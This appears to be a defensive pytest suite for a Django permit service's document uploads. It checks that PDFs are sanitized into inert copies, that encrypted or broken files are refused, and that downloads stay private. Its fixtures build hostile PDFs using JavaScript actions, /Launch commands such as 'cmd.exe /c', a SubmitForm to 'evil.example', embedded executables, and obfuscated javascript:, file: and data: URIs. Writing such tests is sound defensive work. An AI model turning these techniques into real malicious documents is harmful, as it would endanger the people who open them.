"""Scans: every accepted PDF is stored as an inert copy rewritten by pikepdf, the original's hash kept;
PDFs pikepdf cannot open or that are encrypted are refused with a message; downloads are private."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable, Iterator

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.translation import gettext

from gis_app.audit import audit_trail
from gis_app.templatetags.persian import latin_isolated
from permits.models import RequestDocument
from tests.permits.conftest import draft

pytestmark = [pytest.mark.django_db, pytest.mark.hostile("active content in PDFs (item 4)")]

MARK = "EVIL-PAYLOAD"
JS = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.alert('{MARK}');"))
SAFE_URI = "https://bojnord.ir/permits"


def _base(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    # no object streams and no compression: the hostile parts sit in the file as plain text
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return out.getvalue()


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary, page: int = 0) -> None:
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10, 100, 40], A=action)
    )
    pdf.pages[page].obj["/Annots"] = pikepdf.Array([*pdf.pages[page].obj.get("/Annots", []), annot])


def link_javascript() -> bytes:
    pdf = _base()
    _link(pdf, JS)
    return _bytes(pdf)


def link_javascript_indirect_action() -> bytes:
    pdf = _base()
    _link(pdf, pdf.make_indirect(pikepdf.Dictionary(JS)))
    return _bytes(pdf)


def link_goto_then_javascript() -> bytes:
    """A harmless GoTo whose /Next runs a script."""
    pdf = _base(2)
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[1].obj, pikepdf.Name.Fit], Next=JS))
    return _bytes(pdf)


def widget_additional_actions() -> bytes:
    pdf = _base()
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            Rect=[10, 10, 200, 40],
            AA=pikepdf.Dictionary(K=JS, Fo=JS),
        )
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[widget])
    return _bytes(pdf)


def widget_submit_form() -> bytes:
    pdf = _base()
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String(f"https://evil.example/{MARK}"))
    widget = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, Rect=[0, 0, 9, 9], A=action
        )
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([widget])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[widget], XFA=pdf.make_stream(f"<xdp>{MARK}</xdp>".encode()))
    return _bytes(pdf)


def outline_action(action: pikepdf.Dictionary) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = _base()
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Open me", action=action))
        return _bytes(pdf)

    return build


def launch_link() -> bytes:
    pdf = _base()
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(f"cmd.exe /c {MARK}")))
    return _bytes(pdf)


def launch_open_action() -> bytes:
    pdf = _base()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=pikepdf.String(f"calc.exe {MARK}"))
    )
    return _bytes(pdf)


def open_action_javascript() -> bytes:
    pdf = _base()
    pdf.Root.OpenAction = JS
    return _bytes(pdf)


def open_action_import_data() -> bytes:
    pdf = _base()
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String(f"{MARK}.fdf"))
    pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=JS)
    return _bytes(pdf)


def document_javascript_name_tree() -> bytes:
    pdf = _base()
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), pdf.make_indirect(pikepdf.Dictionary(JS))])
    )
    return _bytes(pdf)


def embedded_file() -> bytes:
    pdf = _base()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, f"MZ {MARK}".encode(), filename="payload.exe")
    return _bytes(pdf)


def file_attachment_annotation() -> bytes:
    pdf = _base()
    spec = pikepdf.AttachedFileSpec(pdf, f"MZ {MARK}".encode(), filename="payload.exe")
    annot = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=[10, 10, 30, 30],
            FS=spec.obj,
        )
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([annot])
    return _bytes(pdf)


def rich_media_annotation() -> bytes:
    pdf = _base()
    annot = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.RichMedia,
            Rect=[10, 10, 30, 30],
            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=[pikepdf.String(MARK)])),
        )
    )
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([annot])
    return _bytes(pdf)


def uri(text: str) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = _base()
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(text)))
        return _bytes(pdf)

    return build


HOSTILE = {
    "link annotation JavaScript": link_javascript,
    "link annotation JavaScript, indirect action": link_javascript_indirect_action,
    "GoTo link chained to JavaScript by /Next": link_goto_then_javascript,
    "form widget /AA": widget_additional_actions,
    "form widget /SubmitForm and XFA": widget_submit_form,
    "outline JavaScript": outline_action(JS),
    "outline /Launch": outline_action(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(MARK))),
    "outline /GoToR": outline_action(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(MARK), D=[0])),
    "link /Launch": launch_link,
    "/OpenAction /Launch": launch_open_action,
    "/OpenAction JavaScript": open_action_javascript,
    "/OpenAction /ImportData and page /AA": open_action_import_data,
    "/JavaScript name tree": document_javascript_name_tree,
    "embedded file": embedded_file,
    "file attachment annotation": file_attachment_annotation,
    "rich media annotation": rich_media_annotation,
    "javascript: URI": uri(f"javascript:alert('{MARK}')"),
    "JavaScript: URI, mixed case": uri(f"JaVaScRiPt:alert('{MARK}')"),
    "javascript: URI hidden by a tab": uri(f"java\tscript:alert('{MARK}')"),
    "javascript: URI behind a blank": uri(f" javascript:alert('{MARK}')"),
    "file: URI": uri(f"file:///C:/{MARK}.exe"),
    "data: URI": uri(f"data:text/html,<script>{MARK}</script>"),
}

PASSWORD_MESSAGE = "%(name)s is password-protected; upload it without a password."
ALLOWED_ACTIONS = {pikepdf.Name.GoTo, pikepdf.Name.URI}


def _walk(obj, seen: set, depth: int = 0) -> Iterator:
    """Every object reachable from obj, once."""
    if not isinstance(obj, pikepdf.Object):  # pikepdf gives numbers and booleans as Python values
        return
    if obj.is_indirect:
        if obj.objgen in seen:
            return
        seen.add(obj.objgen)
    yield obj
    if isinstance(obj, pikepdf.Array):
        for item in obj:
            yield from _walk(item, seen, depth + 1)
    elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
        for key in obj:
            if key != "/Parent":
                yield from _walk(obj.get(key), seen, depth + 1)


def assert_inert(data: bytes) -> None:
    assert MARK.encode() not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) >= 1
        assert "/OpenAction" not in pdf.Root and "/Collection" not in pdf.Root
        names = pdf.Root.get("/Names", pikepdf.Dictionary())
        assert "/JavaScript" not in names and "/EmbeddedFiles" not in names
        assert not pdf.attachments
        for obj in pdf.objects:  # everything written, reachable or not
            if isinstance(obj, pikepdf.Stream):
                assert MARK.encode() not in obj.read_bytes()
                assert obj.get("/Type") != pikepdf.Name.EmbeddedFile
            if not isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                continue
            for sub in _walk(obj, set()):
                if isinstance(sub, pikepdf.String):
                    assert MARK.encode() not in bytes(sub)
                if not isinstance(sub, (pikepdf.Dictionary, pikepdf.Stream)):
                    continue
                for key in ("/AA", "/JS", "/OpenAction", "/EF", "/XFA", "/Next", "/RichMediaContent"):
                    assert key not in sub, key
                assert sub.get("/Subtype") not in (pikepdf.Name.FileAttachment, pikepdf.Name.RichMedia)
                if "/A" in sub:
                    assert sub.A.S in ALLOWED_ACTIONS
                    if sub.A.S == pikepdf.Name.URI:
                        assert bytes(sub.A.URI).decode().startswith(("http://", "https://"))


def _upload(client, req, name: str, data: bytes, kind: str = "deed"):
    return client.post(
        f"/en/files/{req.tracking_code}/documents/", {"kind": kind, "file": SimpleUploadedFile(name, data)}
    )


@pytest.mark.parametrize("variant", list(HOSTILE))
def test_a_hostile_pdf_is_stored_as_an_inert_copy_with_the_original_hash(client, plot, citizen, variant):
    original = HOSTILE[variant]()
    assert MARK.encode() in original  # the test builds what it says it builds
    req = draft(plot, citizen)
    client.force_login(citizen)
    response = _upload(client, req, "deed.pdf", original)
    assert response.status_code == 302, variant
    doc = RequestDocument.objects.get()
    assert doc.sha256 == hashlib.sha256(original).hexdigest() and doc.size_bytes == len(original)
    with doc.file.open("rb") as fh:
        stored = fh.read()
    assert stored != original
    assert_inert(stored)
    added = [e for e in audit_trail(req) if e.action == "document.added"][-1]
    assert added.data["sha256"] == doc.sha256 and added.data["removed"]
    assert added.data["stored_sha256"] == hashlib.sha256(stored).hexdigest()
    # and the person who may open the file gets the inert copy
    download = client.get(f"/en/files/{req.tracking_code}/documents/{doc.pk}/")
    assert b"".join(download.streaming_content) == stored


def test_a_benign_pdf_keeps_its_pages_and_its_plain_links(client, plot, citizen):
    pdf = _base(3)
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[2].obj, pikepdf.Name.Fit]))
    _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(SAFE_URI)), page=1)
    pdf.pages[1].contents_add(pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (deed page two) Tj ET"))
    original = _bytes(pdf)
    req = draft(plot, citizen)
    client.force_login(citizen)
    assert _upload(client, req, "deed.pdf", original).status_code == 302
    doc = RequestDocument.objects.get()
    assert doc.sha256 == hashlib.sha256(original).hexdigest()
    with doc.file.open("rb") as fh, pikepdf.open(io.BytesIO(fh.read())) as stored:
        assert len(stored.pages) == 3
        stored.pages[1].contents_coalesce()
        assert b"deed page two" in stored.pages[1].obj.Contents.read_bytes()
        goto = stored.pages[0].obj.Annots[0].A
        assert str(goto.S) == "/GoTo" and goto.D[0].objgen == stored.pages[2].obj.objgen
        link = stored.pages[1].obj.Annots[0].A
        assert str(link.S) == "/URI" and bytes(link.URI) == SAFE_URI.encode()
    added = [e for e in audit_trail(req) if e.action == "document.added"][-1]
    assert added.data["removed"] == []


def _encrypted(user: str, owner: str) -> bytes:
    out = io.BytesIO()
    _base().save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


def _truncated() -> bytes:
    return _bytes(_base(2))[:200]


def _no_pages() -> bytes:
    data = _bytes(_base())
    return data.replace(b"/Count 1", b"/Count 0").replace(b"/Kids [ 3 0 R ]", b"/Kids [ ]")


def _nested(depth: int) -> bytes:
    pdf = _base()
    inner = pikepdf.Dictionary(Leaf=1)
    for _ in range(depth):
        inner = pikepdf.Dictionary(Inner=inner)
    pdf.Root.Deep = inner
    return _bytes(pdf)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (_encrypted(user="secret", owner="owner"), "password-protected"),
        (_encrypted(user="", owner="owner"), "password-protected"),  # opens without a password, still refused
        (_encrypted(user="", owner=""), "password-protected"),
        (b"%PDF-1.7\n" + b"\x00" * 64, "not a readable PDF"),
        (b"%PDF-1.4 garbage without structure", "not a readable PDF"),
        (_truncated(), "not a readable PDF"),
        (_no_pages(), "not a readable PDF"),
        (_nested(200), "not a readable PDF"),
    ],
    ids=[
        "user password",
        "owner password only",
        "empty passwords",
        "NUL body",
        "no structure",
        "truncated",
        "no pages",
        "nested 200 deep",
    ],
)
def test_pdfs_pikepdf_cannot_open_or_encrypted_are_refused_with_a_message(client, plot, citizen, data, message):
    req = draft(plot, citizen)
    client.force_login(citizen)
    response = _upload(client, req, "deed.pdf", data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not RequestDocument.objects.exists()
    # and in Persian, the service's first language
    persian = client.post(
        f"/files/{req.tracking_code}/documents/", {"kind": "deed", "file": SimpleUploadedFile("deed.pdf", data)}
    )
    english = {"not a readable PDF": "%(name)s is not a readable PDF.", "password-protected": PASSWORD_MESSAGE}[message]
    with translation.override("fa"):
        expected = gettext(english) % {"name": "deed.pdf"}
        shown = latin_isolated(expected)  # the file's name isolated left to right in the Persian message
    assert expected != english % {"name": "deed.pdf"}
    assert persian.status_code == 400 and shown in persian.content.decode()


@pytest.mark.parametrize("kind", ["pdf", "png"])
def test_a_scan_is_downloaded_private_and_never_stored_by_caches(client, plot, citizen, kind):
    from tests.permits.conftest import pdf_bytes, png_bytes

    req = draft(plot, citizen)
    client.force_login(citizen)
    assert (
        _upload(client, req, f"card.{kind}", pdf_bytes() if kind == "pdf" else png_bytes(), "national_card").status_code
        == 302
    )
    doc = RequestDocument.objects.get()
    response = client.get(f"/en/files/{req.tracking_code}/documents/{doc.pk}/")
    assert response.status_code == 200
    directives = {d.strip() for d in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= directives and "public" not in directives
    assert response["X-Content-Type-Options"] == "nosniff"
